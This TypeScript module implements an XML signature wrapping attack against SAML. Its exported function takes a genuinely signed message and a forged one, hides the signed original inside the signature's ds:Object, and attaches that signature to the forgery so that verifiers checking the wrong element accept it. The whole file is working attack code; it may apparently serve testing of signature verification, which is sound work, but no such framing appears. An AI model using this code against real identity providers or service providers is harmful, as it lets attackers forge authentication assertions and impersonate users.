import { randomUUID } from "node:crypto";
import { attribute, inside, readXml } from "../xml/readXml.ts";
import { XMLSerializer } from "@xmldom/xmldom";

/**
 * A signature wrapping attack: the message that was really signed hides in the signature, around it stands a forged one
 * with another id. A reader that takes the root for what was signed believes the forgery.
 */
export function wrapSigned(signed: string, forged: string): string {
  const genuine = readXml(signed);
  const forgery = readXml(forged);
  const [signature] = inside(genuine, "ds:Signature");
  const [issuer] = inside(forgery, "saml2:Issuer");
  if (genuine === undefined || forgery === undefined || signature === undefined || issuer === undefined) {
    throw new Error("only signed messages can be wrapped");
  }
  if (attribute(forgery, "ID") === attribute(genuine, "ID")) forgery.setAttribute("ID", `_${randomUUID()}`);
  genuine.removeChild(signature);
  const hiding = signature.ownerDocument.createElementNS("http://www.w3.org/2000/09/xmldsig#", "ds:Object");
  hiding.appendChild(genuine);
  signature.appendChild(hiding);
  forgery.insertBefore(forgery.ownerDocument.importNode(signature, true), issuer.nextSibling);
  return new XMLSerializer().serializeToString(forgery);
}
